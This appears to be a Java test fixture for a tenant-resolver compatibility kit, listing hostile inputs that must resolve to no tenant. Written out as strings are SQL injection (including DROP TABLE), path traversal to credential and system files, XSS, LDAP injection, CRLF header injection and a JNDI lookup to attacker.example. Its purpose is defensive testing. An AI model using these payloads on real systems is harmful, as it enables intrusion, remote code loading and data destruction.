// SPDX-License-Identifier: Apache-2.0
package dev.jitgate.resolver.tck;

import java.util.List;
import java.util.stream.Stream;

/** Values that must lead to no tenant; some are genuine ones with something added. */
final class HostileValues {

  /** A value that no reason may repeat; it looks like nothing that a resolver would say. */
  static final String MARKER = "zq-Typed-By-Somebody-qz";

  private static final List<String> ALONE =
      List.of(
          "",
          " ",
          "\u3000",
          "%",
          "*",
          "?",
          "_",
          ".*",
          "^",
          "|",
          "null",
          "undefined",
          "true",
          "-",
          ".",
          "..",
          "/",
          "../../etc/passwd",
          "C:\\Windows\\win.ini",
          "' OR 'a'='a",
          "'; DROP TABLE tenant; --",
          "*)(objectClass=*",
          "<script>alert(document.domain)</script>",
          "${jndi:ldap://attacker.example/a}",
          "#{request.variables}",
          "$CLIENT_REFERENCE",
          "https://attacker.example/",
          "javascript:alert(document.domain)",
          "\uD800",
          "\uFFFF",
          "a\r\nSet-Cookie: b=c",
          "\u0645\u0631\u062d\u0628\u0627");

  private HostileValues() {}

  static Stream<String> of(String genuine) {
    return Stream.concat(
        Stream.concat(ALONE.stream(), Stream.of(MARKER)),
        Stream.of(
            genuine + "%",
            genuine + "*",
            "*" + genuine,
            genuine + "' OR 'a'='a",
            genuine + "\u0000.example",
            genuine + "/../" + genuine,
            "../" + genuine,
            "$" + genuine,
            genuine + "|",
            genuine + "\u202E",
            "\u200B" + genuine,
            genuine + ", " + genuine,
            // At least 500 characters, however short the genuine value is.
            genuine.repeat(500)));
  }
}
